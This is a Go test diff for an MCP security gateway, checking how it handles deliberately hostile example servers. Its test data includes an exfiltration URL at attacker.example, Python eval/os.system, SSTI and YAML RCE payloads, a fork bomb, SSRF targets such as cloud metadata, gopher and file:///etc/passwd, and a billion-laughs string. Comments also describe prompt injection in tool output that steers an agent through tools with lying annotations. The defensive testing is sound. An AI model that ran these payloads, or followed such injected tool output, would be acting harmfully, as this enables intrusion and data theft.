@@ -1,12 +1,16 @@
 package main
 
 import (
+	"context"
 	"encoding/json"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
 
 	"secure-mcp-gateway/examples"
 	"secure-mcp-gateway/guard"
@@ -319,7 +323,8 @@ func TestExampleServerList(t *testing.T) {
 			t.Errorf("--list has no line for %s with its description %q:\n%s", name, examples.Describe(name), out)
 		}
 	}
-	for _, name := range []string{"credential_theft", "path_traversal", "command_injection", "mpma", "quiet_rugpull"} {
+	for _, name := range []string{"credential_theft", "path_traversal", "command_injection", "mpma", "quiet_rugpull",
+		"bad_mcp", "session_management", "resource_exhaustion", "unauthenticated_access", "rce", "ssrf"} {
 		if !slices.Contains(examples.Names(), name) {
 			t.Errorf("example %s is not registered", name)
 		}
@@ -349,4 +354,205 @@ func TestGuardQuietRugPullFirstCallRefused(t *testing.T) {
 	if !r.IsError || !strings.Contains(resultText(r), "tools approve --server qr --tool fetch_page") {
 		t.Errorf("first call to the quietly changed tool: isError=%v %q", r.IsError, resultText(r))
 	}
+}
+
+// annotationsOf returns the annotations the client sees for each prefixed
+// tool.
+func annotationsOf(t *testing.T, g *gateway) map[string]*mcp.ToolAnnotations {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	res, err := g.cs.ListTools(ctx, nil)
+	if err != nil {
+		t.Fatalf("tools/list: %v", err)
+	}
+	m := map[string]*mcp.ToolAnnotations{}
+	for _, tool := range res.Tools {
+		m[tool.Name] = tool.Annotations
+	}
+	return m
+}
+
+// TestGuardBadMCP runs the deceptive-naming server: benign names and
+// descriptions, annotations that lie. No offline detector reads intent from
+// a name or checks a hint against behaviour, so every tool is listed with its
+// hints as declared; outputs that carry secrets or an injection are
+// withheld, and the rest (the admitted "hidden effect") reaches the client.
+// The toxic-flow rule trusts openWorldHint: after the injection, a tool
+// that falsely declares openWorldHint: false still runs, and one without the
+// hint is refused.
+func TestGuardBadMCP(t *testing.T) {
+	f := newFixture(t, withPolicies(exampleServer("bad", "bad_mcp", nil),
+		[]string{"secrets", "injection_attack"}, []string{"secrets", "injection_attack", "hidden_text"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
+	g := startGateway(t, f)
+	assertListed(t, g, []string{"bad__cleanup_temp_files", "bad__export_configuration", "bad__optimize_cpu_usage",
+		"bad__analyze_network_traffic", "bad__install_security_update", "bad__backup_database"}, nil)
+	ann := annotationsOf(t, g)
+	if a := ann["bad__backup_database"]; a == nil || !a.ReadOnlyHint || a.OpenWorldHint == nil || *a.OpenWorldHint {
+		t.Errorf("backup_database reaches the client with annotations %+v, want the upstream's (false) readOnlyHint and openWorldHint: false", a)
+	}
+	texts := runHostileCases(t, g, []hostileCase{
+		// Not caught offline: the output only admits what the tool did.
+		{"bad__cleanup_temp_files", nil, []string{"Cleaned /tmp", "HIDDEN EFFECT"}, false},
+		{"bad__optimize_cpu_usage", map[string]any{"intensity": 3}, []string{"miner"}, false},
+		// The "read-only" configuration view exposes credentials.
+		{"bad__export_configuration", nil, []string{"blocked by output guardrails: secrets (aws_secret_access_key, github_token)", "the result was withheld"}, true},
+		{"bad__analyze_network_traffic", nil, []string{"blocked by output guardrails: injection_attack (instruction_override, system_marker)", "the result was withheld"}, true},
+		// The injection asked for backup_database, which declares
+		// openWorldHint: false and so passes the toxic-flow rule.
+		{"bad__backup_database", map[string]any{"remote_url": "https://drop.attacker.example/db"}, []string{"sent unencrypted to https://drop.attacker.example/db"}, false},
+		{"bad__install_security_update", nil, []string{"may reach the outside world (openWorldHint)", `a result of tool "analyze_network_traffic"`}, true},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
+}
+
+// TestGuardSessionManagement runs the session-management server: tokens in
+// arguments are refused before the upstream sees them, and every output that
+// hands out a token or another user's key is withheld. A server that
+// extends sessions forever or accepts any token says nothing a detector can
+// see.
+func TestGuardSessionManagement(t *testing.T) {
+	f := newFixture(t, withPolicies(exampleServer("sess", "session_management", nil),
+		[]string{"secrets", "injection_attack"}, []string{"secrets", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
+	g := startGateway(t, f)
+	assertListed(t, g, []string{"sess__forward_api_request", "sess__oauth_connect", "sess__get_user_context",
+		"sess__extend_session", "sess__share_session", "sess__validate_token"}, nil)
+	out := func(rules string) []string {
+		return []string{"blocked by output guardrails: secrets (" + rules + ")", "the result was withheld"}
+	}
+	texts := runHostileCases(t, g, []hostileCase{
+		// A user's token passed as an argument never reaches the server.
+		{"sess__validate_token", map[string]any{"token": examples.FakeSecrets()[5]}, []string{"blocked by input guardrails: secrets (jwt)", "the arguments were not forwarded"}, true},
+		{"sess__forward_api_request", map[string]any{"target_api": "https://api.example.net", "endpoint": "/v1/me"}, out("jwt"), true},
+		{"sess__oauth_connect", map[string]any{"provider": "idp.example.net"}, out("password_assignment"), true},
+		{"sess__get_user_context", nil, out("password_assignment"), true},
+		{"sess__share_session", map[string]any{"recipient_email": "eve@example.net"}, out("jwt"), true},
+		// Not caught offline: no secret in the text.
+		{"sess__extend_session", nil, []string{"Expiry: never"}, false},
+		{"sess__validate_token", map[string]any{"token": "abc"}, []string{"Valid: True, Role: administrator"}, false},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
+}
+
+// TestGuardResourceExhaustion runs the DoS server. Its tools only describe
+// the work their inputs would cause, which no offline detector flags; a
+// degenerate argument (a repeated entity reference, the shape of a billion
+// laughs payload) is refused by sponge_attack before the upstream sees it.
+func TestGuardResourceExhaustion(t *testing.T) {
+	f := newFixture(t, withPolicies(exampleServer("dos", "resource_exhaustion", nil),
+		[]string{"sponge_attack", "injection_attack"}, []string{"sponge_attack", "injection_attack", "secrets"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
+	g := startGateway(t, f)
+	tools := []string{"dos__process_large_dataset", "dos__generate_thumbnail", "dos__calculate_hash", "dos__search_database", "dos__render_template", "dos__batch_process"}
+	assertListed(t, g, tools, nil)
+	runHostileCases(t, g, []hostileCase{
+		{"dos__render_template", map[string]any{"template": strings.Repeat("&lol;", 2000)}, []string{"blocked by input guardrails: sponge_attack (repetition)", "the arguments were not forwarded"}, true},
+		// Not caught offline: large numbers are ordinary arguments, and the
+		// outputs are plain prose.
+		{"dos__process_large_dataset", map[string]any{"size_mb": 100000}, []string{"load 100000 MB"}, false},
+		{"dos__generate_thumbnail", map[string]any{"width": 100000, "height": 100000, "image_url": "https://img.example.net/a.png"}, []string{"decompression bomb"}, false},
+		{"dos__calculate_hash", map[string]any{"algorithm": "bcrypt", "iterations": 1000000000}, []string{"1000000000 rounds"}, false},
+		{"dos__search_database", map[string]any{"query": "x"}, []string{"WITH RECURSIVE"}, false},
+		{"dos__render_template", map[string]any{"template": "Hello {{name}}"}, []string{"billion laughs"}, false},
+		{"dos__batch_process", map[string]any{"item_count": 5}, []string{":(){ :|:& };:"}, false},
+	})
+}
+
+// TestGuardUnauthenticatedAccess runs the zero-auth server. The gateway
+// cannot add authentication to an upstream; what it can do is expose only
+// the tools the config allows (the admin, delete, command and source tools
+// are withheld by the allow-list) and withhold outputs that dump PII and
+// keys.
+func TestGuardUnauthenticatedAccess(t *testing.T) {
+	s := withPolicies(exampleServer("db", "unauthenticated_access", nil),
+		[]string{"secrets", "injection_attack"}, []string{"pii", "secrets", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil)
+	s.Tools = map[string]json.RawMessage{"read_database": json.RawMessage(`"Run a read-only query"`), "export_customer_data": json.RawMessage(`{}`), "admin_panel": json.RawMessage(`{"enabled": false}`)}
+	f := newFixture(t, s)
+	g := startGateway(t, f)
+	names := g.toolNames(t)
+	slices.Sort(names)
+	if want := []string{"db__export_customer_data", "db__read_database"}; !slices.Equal(names, want) {
+		t.Errorf("tools = %v, want only the allowed %v", names, want)
+	}
+	// A tool outside the allow-list does not exist for the client.
+	for _, n := range []string{"db__admin_panel", "db__delete_records", "db__execute_command", "db__modify_source_code"} {
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		r, err := g.cs.CallTool(ctx, &mcp.CallToolParams{Name: n, Arguments: map[string]any{}})
+		cancel()
+		if err == nil || !strings.Contains(err.Error(), "unknown tool") {
+			t.Errorf("call to %s outside the allow-list: err=%v result=%+v, want unknown tool", n, err, r)
+		}
+	}
+	texts := runHostileCases(t, g, []hostileCase{
+		{"db__read_database", map[string]any{"query": "SELECT * FROM users"}, []string{"blocked by output guardrails: pii (card, email, ssn); secrets (stripe_key)", "the result was withheld"}, true},
+		{"db__export_customer_data", nil, []string{"blocked by output guardrails: pii (card, email, phone)", "the result was withheld"}, true},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "219-09-9999", "4111 1111 1111 1111", f.key))
+}
+
+// TestGuardRCE runs the code-execution server twice: with the offline
+// content detectors only, its payloads (eval, pickle, SSTI, YAML tags) pass
+// in both directions, except the JSON gadget's ldap:// URL, which ssrf
+// finds; with the payload fragments as keywords, they are refused in the
+// arguments and withheld in the outputs. A payload in an opaque encoding
+// (base64 pickle) passes the input check.
+func TestGuardRCE(t *testing.T) {
+	content := []string{"injection_attack", "secrets", "hidden_text"}
+	keywords := map[string]any{"keywords": []any{"__import__", "__reduce__", "__class__", "__subclasses__", "!!python/", `"@type"`}}
+	tool := []string{"injection_attack", "hidden_text", "tool_poisoning"}
+	plain := withPolicies(exampleServer("plain", "rce", nil), content, append(slices.Clone(content), "ssrf"), tool, nil)
+	kw := withPolicies(exampleServer("rce", "rce", nil), []string{"keyword_detector", "injection_attack"}, []string{"keyword_detector", "injection_attack"}, tool, keywords)
+	f := newFixture(t, plain, kw)
+	g := startGateway(t, f)
+	assertListed(t, g, []string{"plain__evaluate_expression", "rce__evaluate_expression", "rce__deserialize_object", "rce__render_markdown", "rce__load_yaml_config", "rce__process_json"}, nil)
+	in := []string{"blocked by input guardrails: keyword_detector (keyword)", "the arguments were not forwarded"}
+	out := []string{"blocked by output guardrails: keyword_detector (keyword)", "the result was withheld"}
+	runHostileCases(t, g, []hostileCase{
+		// Not caught by the content detectors.
+		{"plain__evaluate_expression", map[string]any{"expression": "__import__('os').system('id')"}, []string{"eval(__import__('os').system('id'))", "nothing was evaluated"}, false},
+		{"plain__render_markdown", map[string]any{"markdown": "{{ ''.__class__.__mro__ }}"}, []string{"__subclasses__"}, false},
+		{"plain__load_yaml_config", map[string]any{"yaml_content": "!!python/object/apply:os.system ['id']"}, []string{"!!python/object/apply"}, false},
+		{"plain__process_json", map[string]any{"json_data": "{}"}, []string{"blocked by output guardrails: ssrf (scheme)", "the result was withheld"}, true},
+		// With the fragments as keywords.
+		{"rce__evaluate_expression", map[string]any{"expression": "__import__('os').system('id')"}, in, true},
+		{"rce__render_markdown", map[string]any{"markdown": "{{ ''.__class__.__mro__ }}"}, in, true},
+		{"rce__load_yaml_config", map[string]any{"yaml_content": "!!python/object/apply:os.system ['id']"}, in, true},
+		{"rce__process_json", map[string]any{"json_data": `{"@type":"com.sun.rowset.JdbcRowSetImpl"}`}, in, true},
+		{"rce__deserialize_object", map[string]any{"pickle_data": "Y29zCnN5c3RlbQooUydpZCcKdFIu"}, out, true},
+		{"rce__evaluate_expression", map[string]any{"expression": "1+1"}, out, true},
+	})
+}
+
+// TestGuardSSRF runs the SSRF server with the opt-in argument detectors on
+// the input: metadata, loopback and file:// targets, in any spelling, are
+// refused before the upstream sees them. A DNS name that points at the
+// metadata address is not resolved by the guard and passes; the credentials
+// it "returns" are withheld by the output secrets policy.
+func TestGuardSSRF(t *testing.T) {
+	f := newFixture(t, withPolicies(exampleServer("web", "ssrf", nil),
+		[]string{"ssrf", "path_traversal"}, []string{"secrets", "ssrf", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
+	g := startGateway(t, f)
+	assertListed(t, g, []string{"web__fetch_url", "web__check_availability", "web__proxy_request", "web__validate_webhook"}, nil)
+	in := func(rules string) []string {
+		return []string{"blocked by input guardrails: " + rules, "the arguments were not forwarded"}
+	}
+	texts := runHostileCases(t, g, []hostileCase{
+		{"web__fetch_url", map[string]any{"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/admin"}, in("ssrf (metadata)"), true},
+		{"web__fetch_url", map[string]any{"url": "http://[::ffff:169.254.169.254]/latest/meta-data/"}, in("ssrf (metadata)"), true},
+		{"web__fetch_url", map[string]any{"url": "http://2852039166/latest/meta-data/"}, in("ssrf (metadata)"), true},
+		{"web__fetch_url", map[string]any{"url": "http://metadata.google.internal/computeMetadata/v1/"}, in("ssrf (metadata)"), true},
+		{"web__fetch_url", map[string]any{"url": "file:///etc/passwd"}, in("path_traversal (sensitive_file); ssrf (scheme)"), true},
+		{"web__fetch_url", map[string]any{"url": "http://localhost:8080/admin"}, in("ssrf (loopback)"), true},
+		{"web__validate_webhook", map[string]any{"webhook_url": "http://127.0.0.1:2375/containers/json"}, in("ssrf (loopback)"), true},
+		{"web__proxy_request", map[string]any{"target_url": "gopher://127.0.0.1:6379/_FLUSHALL"}, in("ssrf (scheme)"), true},
+		{"web__check_availability", map[string]any{"service_url": "http://10.0.0.5:9200/"}, in("ssrf (private)"), true},
+		// Not resolved, so not caught at the input; the output is.
+		{"web__fetch_url", map[string]any{"url": "http://169.254.169.254.nip.io/latest/meta-data/"},
+			[]string{"blocked by output guardrails: secrets (aws_access_key_id, password_assignment)", "the result was withheld"}, true},
+		// Outputs naming internal URLs are withheld; a port list without
+		// URLs is not caught by ssrf.
+		{"web__proxy_request", map[string]any{"target_url": "https://example.com/"}, []string{"blocked by output guardrails: ssrf (private, scheme)"}, true},
+		{"web__check_availability", map[string]any{"service_url": "https://status.example.com/"}, []string{"127.0.0.1:6379 redis OPEN"}, false},
+		{"web__fetch_url", map[string]any{"url": "https://example.com/"}, []string{"<html>Example page</html>"}, false},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "root:x:0:0", f.key))
 }
